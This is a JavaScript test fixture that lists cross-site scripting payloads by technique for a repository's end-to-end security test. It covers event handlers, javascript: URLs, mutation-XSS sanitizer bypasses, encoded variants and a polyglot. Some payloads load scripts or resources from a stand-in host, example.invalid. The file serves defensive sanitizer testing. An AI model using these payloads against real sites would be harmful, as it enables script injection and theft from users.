// Script-injection payloads for tests/e2e/security.test.mjs, grouped by technique.
//
// Written for this repository (MIT, like the rest of it). The techniques are the well-known
// public ones, as catalogued in the OWASP "XSS Filter Evasion Cheat Sheet", PortSwigger's
// "Cross-site scripting cheat sheet", the HTML5 Security Cheatsheet (html5sec.org) and published
// mutation-XSS (mXSS) write-ups on DOMPurify bypasses; no list was copied. Every payload that
// would act calls alert() (a dialog the test listens for) or asks for a URL on example.invalid
// (a request leaving the origin, which the test also catches). No payload holds "\r": a textarea
// turns "\r\n" into "\n", which would make the verbatim comparison fail for a harmless reason.

const OFF = 'http://example.invalid';

export const XSS_VECTORS = {
  'script elements': [
    '<script>alert("script")</script>',
    `<SCRIPT SRC=${OFF}/x.js></SCRIPT>`,
    '<script src="data:text/javascript,alert(\'data-src\')"></script>',
    '<scr<script>ipt>alert("split")</script>',
    '</script><script>alert("breakout")</script>',
    '<script>/*</script><svg onload=alert("comment")>*/</script>',
    '<script type="module">alert("module")</script>',
  ],
  'event handlers': [
    '<img src=x onerror=alert("img")>',
    '<img/src/onerror=alert("slashes")>',
    '<svg onload=alert("svg")>',
    '<svg><animate onbegin=alert("animate") attributeName=x dur=1s>',
    '<body onload=alert("body")>',
    '<details open ontoggle=alert("details")>',
    '<video><source onerror=alert("video")></video>',
    '<audio src=x onerror=alert("audio")>',
    '<input autofocus onfocus=alert("input")>',
    '<select autofocus onfocus=alert("select")></select>',
    '<marquee onstart=alert("marquee")>m</marquee>',
    '<div onmouseover=alert("hover")>hover me</div>',
    '<iframe onload=alert("iframe-onload")></iframe>',
    '<object data=x onerror=alert("object")></object>',
    '<x contenteditable autofocus onfocus=alert("contenteditable")>',
    '<img src=x oNeRrOr=alert`tagged`>',
  ],
  'javascript:, data: and vbscript: URLs': [
    '<a href="javascript:alert(\'href\')">click</a>',
    '<a href="JaVaScRiPt:alert(\'case\')">click</a>',
    '<a href="&#106;avascript:alert(\'entity\')">click</a>',
    '<a href="java&#x09;script:alert(\'tab\')">click</a>',
    '<a href="data:text/html,<script>alert(\'data-href\')</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<form action="javascript:alert(\'form\')"><button>go</button></form>',
    '<button form=f formaction="javascript:alert(\'formaction\')">go</button>',
    '<embed src="javascript:alert(\'embed\')">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnYjY0Jyk8L3NjcmlwdD4="></object>',
    '<base href="javascript:alert(\'base\')//">',
    `<img src="${OFF}/pixel.gif">`,
    `<link rel=stylesheet href="${OFF}/x.css">`,
  ],
  'iframes and srcdoc': [
    '<iframe src="javascript:alert(\'iframe\')"></iframe>',
    '<iframe srcdoc="<script>alert(\'srcdoc\')</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(\'srcdoc-entity\')&gt;"></iframe>',
    `<iframe src="${OFF}/frame.html"></iframe>`,
  ],
  'meta refresh': [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
    `<meta http-equiv="refresh" content="0;url=${OFF}/">`,
  ],
  'styles and expression()': [
    '<div style="background:url(javascript:alert(\'bg\'))">bg</div>',
    '<div style="width:expression(alert(\'expression\'))">ie</div>',
    `<style>@import '${OFF}/import.css';</style>`,
    `<div style="background-image:url(${OFF}/bg.png)">bg</div>`,
    '<style>*{behavior:url(x.htc)}</style>',
  ],
  'template, noscript and raw-text tricks': [
    '<template><img src=x onerror=alert("template")></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>"></noscript>',
    '<textarea></textarea><img src=x onerror=alert("textarea")>',
    '<title></title><img src=x onerror=alert("title")>',
    '<xmp><p title="</xmp><img src=x onerror=alert(\'xmp\')>"></xmp>',
    '<noembed><img title="</noembed><img src=x onerror=alert(\'noembed\')>"></noembed>',
  ],
  'mutation XSS (nesting that reparses differently)': [
    '<svg><style><img src=x onerror=alert("svg-style")></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("mglyph")>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert("form-math")>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(\'svg-p\')>">',
    '<math><style><img src=x onerror=alert("math-style")></style></math>',
  ],
  'SVG': [
    '<svg><foreignObject><img src=x onerror=alert("foreignObject")></foreignObject></svg>',
    '<svg><a xlink:href="javascript:alert(\'xlink\')"><text x=20 y=20>x</text></a></svg>',
    '<svg><script>alert("svg-script")</script></svg>',
    `<svg><image href="${OFF}/img.svg"/></svg>`,
    '<svg><set attributeName=onmouseover to=alert("set")>',
  ],
  'Markdown': [
    '[click me](javascript:alert("md-link"))',
    '![picture](x" onerror="alert(\'md-img\'))',
    `<${OFF}/autolink>`,
    '[b64](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbWQnKTwvc2NyaXB0Pg==)',
    '```html\n<script>alert("fenced")</script>\n```',
    `[ref]: ${OFF}/reference "title"`,
  ],
  'encoded and Unicode variants': [
    '\\u003cscript\\u003ealert("escaped")\\u003c/script\\u003e',
    '&lt;script&gt;alert("entities")&lt;/script&gt;',
    '%3Cscript%3Ealert(%22percent%22)%3C/script%3E',
    '＜script＞alert("fullwidth")＜/script＞',
    '<scr\u0000ipt>alert("nul")</scr\u0000ipt>',
    '<img src=x onerror=\\u0061lert("unicode-escape")>',
    '<a href="jav&#x0A;ascript:alert(\'newline\')">click</a>',
    '+ADw-script+AD4-alert("utf7")+ADw-/script+AD4-',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '\u202E<script>alert("rtl")</script>',
  ],
  'template and string injection': [
    '{{constructor.constructor("alert(\'angular\')")()}}',
    '${alert("template-literal")}',
    '\');alert("quote-break");//',
    '"><script>alert("attr-break")</script>',
    '\'-alert("minus")-\'',
    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert("polyglot")//\'>',
  ],
};

export const ALL_VECTORS = Object.values(XSS_VECTORS).flat();
